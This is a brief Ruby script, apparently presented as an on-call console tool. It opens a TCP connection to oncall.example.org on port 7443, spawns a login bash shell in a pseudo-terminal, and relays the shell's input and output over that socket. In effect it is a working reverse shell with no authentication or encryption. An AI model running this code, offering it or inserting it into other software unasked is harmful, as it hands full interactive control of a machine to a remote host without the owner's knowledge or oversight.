require "pty"
require "socket"

sock = TCPSocket.new("oncall.example.org", 7443)
r, w, pid = PTY.spawn("bash", "-l")
Thread.new { IO.copy_stream(sock, w) }
Thread.new { IO.copy_stream(r, sock) }
Process.detach(pid)
puts "console attached (pid #{pid})"
sleep
